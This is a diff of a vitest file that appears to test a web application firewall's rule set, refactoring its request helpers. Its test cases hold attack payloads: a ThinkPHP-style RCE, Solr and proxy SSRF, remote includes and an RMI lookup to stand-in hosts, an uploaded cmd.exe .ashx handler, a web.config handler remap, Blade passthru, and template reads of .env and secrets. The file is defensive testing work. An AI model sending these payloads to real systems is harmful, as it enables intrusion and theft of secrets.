@@ -8,12 +8,10 @@
  */
 import { describe } from 'vitest';
 import type { RequestSpec } from './fixtures.js';
-import { BROWSER, form, FORM_HEADERS, json, type RuleCase, testPrefilterEntries, testRuleCases, useBundledRuleSet } from './bundled-requests.js';
+import { BROWSER, form, json, type RuleCase, testPrefilterEntries, testRuleCases, useBundledRuleSet, get, postForm } from './bundled-requests.js';
 
 const { hits, rules } = useBundledRuleSet();
 
-const get = (url: string): RequestSpec => ({ url, headers: BROWSER });
-const post = (url: string, body: string): RequestSpec => ({ method: 'POST', url, headers: FORM_HEADERS, body });
 const upload = (name: string, content: string): RequestSpec => {
   const b = '----WebKitFormBoundaryQ3v8Lm2Zr5Tx9Wc1';
   const body = `--${b}\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\nContent-Type: application/octet-stream\r\n\r\n${content}\r\n--${b}\r\nContent-Disposition: form-data; name="submit"\r\n\r\nUpload\r\n--${b}--\r\n`;
@@ -24,7 +22,7 @@ const ASHX = '<%@ WebHandler Language="C#" Class="H" %>\nusing System.Diagnostic
 const WEB_CONFIG = '<?xml version="1.0"?>\n<configuration><system.webServer><handlers accessPolicy="Read, Script, Write"><add name="x" path="*.jpg" verb="*" type="System.Web.UI.PageHandlerFactory" /></handlers><security><requestFiltering><hiddenSegments><remove segment="web.config" /></hiddenSegments></requestFiltering></security></system.webServer></configuration>';
 
 const CASES: RuleCase[] = [
-  [9001368, 'block', 'a method override to __construct with filter[]=system', post('/index.php?s=captcha', '_method=__construct&filter[]=system&method=get&server[REQUEST_METHOD]=id'), post('/posts/12', '_method=PUT&title=Hello&body=__construct+is+PHP%27s+constructor')],
+  [9001368, 'block', 'a method override to __construct with filter[]=system', postForm('/index.php?s=captcha', '_method=__construct&filter[]=system&method=get&server[REQUEST_METHOD]=id'), postForm('/posts/12', '_method=PUT&title=Hello&body=__construct+is+PHP%27s+constructor')],
   [9001560, 'block', 'Solr fetchindex from a masterUrl', get('/solr/products/replication?command=fetchindex&masterUrl=https%3A%2F%2Fmirror.example.net%2Fsolr%2Fx'), get('/solr/products/replication?command=details&wt=json')],
   [9000563, 'block', 'an abspath given a remote URL', get('/wp-content/plugins/gwolle-gb/frontend/captcha/ajaxresponse.php?abspath=http%3A%2F%2Fdl.example.net%2Fx%2F'), get('/gallery?image_path=https%3A%2F%2Fcdn.example.com%2Fa.jpg&base_url=https%3A%2F%2Fshop.example.com%2F')],
   [9000564, 'block', "a proxy servlet sent to the admin port on loopback", { method: 'POST', url: '/service/proxy?target=https://127.0.0.1:7071/service/admin/soap', headers: [...BROWSER, ['Content-Type', 'application/soap+xml']], body: '<soap:Envelope/>' }, get('/proxy/image?url=https%3A%2F%2Fimages.example.com%2Fcat.jpg')],
@@ -33,7 +31,7 @@ const CASES: RuleCase[] = [
   [9000860, 'block', 'an RMI naming URL as a JSON argument', json('{"methodInput":[["rmi://203.0.113.9:1099/Exploit"]]}'), json('{"jmxUrl":"service:jmx:rmi:///jndi/rmi://monitor.internal:9999/jmxrmi"}')],
   [9001369, 'block', 'an uploaded .ashx starting cmd.exe', upload('report.ashx', ASHX), upload('Program.cs', 'using System.Diagnostics;\nclass P { static void Main() { Process.Start("notepad.exe"); } }')],
   [9001370, 'block', 'an uploaded web.config mapping .jpg to ASP.NET', upload('web.config', WEB_CONFIG), upload('web.config', '<?xml version="1.0"?>\n<configuration><appSettings><add key="Theme" value="dark" /></appSettings></configuration>')],
-  [9001264, 'block', 'a config variable after an encoded line break', post('/getcfg.php', 'SERVICES=DEVICE.ACCOUNT%0aAUTHORIZED_GROUP=1'), post('/contact', 'name=Ann&message=Line+one%0ASECOND+LINE%3D+two&env=PATH%3D%2Fusr%2Fbin%0AHOME%3D%2Froot')],
+  [9001264, 'block', 'a config variable after an encoded line break', postForm('/getcfg.php', 'SERVICES=DEVICE.ACCOUNT%0aAUTHORIZED_GROUP=1'), postForm('/contact', 'name=Ann&message=Line+one%0ASECOND+LINE%3D+two&env=PATH%3D%2Fusr%2Fbin%0AHOME%3D%2Froot')],
   [9000761, 'block', 'a Blade @php passthru', form('subject=Hi&body=%3Cp%3EHello%3C%2Fp%3E%40php(passthru(%27id%27))'), form('subject=Hi&body=%40php+%24total+%3D+0%3B+%40endphp+%7B%7B+%24total+%7D%7D+follow+%40phpc+on+X')],
   [9000762, 'block', 'a template echo of base_path .env', json('{"body":"<p>Hi</p>{{ file_get_contents(base_path(\'.env\')) }}"}'), json('{"body":"<footer>{{ config(\'app.name\') }} - {{ env(\'APP_URL\') }}</footer>"}')],
   [9000762, 'block', 'a template echo of a config secret', json('{"body":"{{ config(\'services.stripe.secret\') }}"}'), json('{"body":"Set config(\'services.stripe.secret\') in config/services.php"}')],
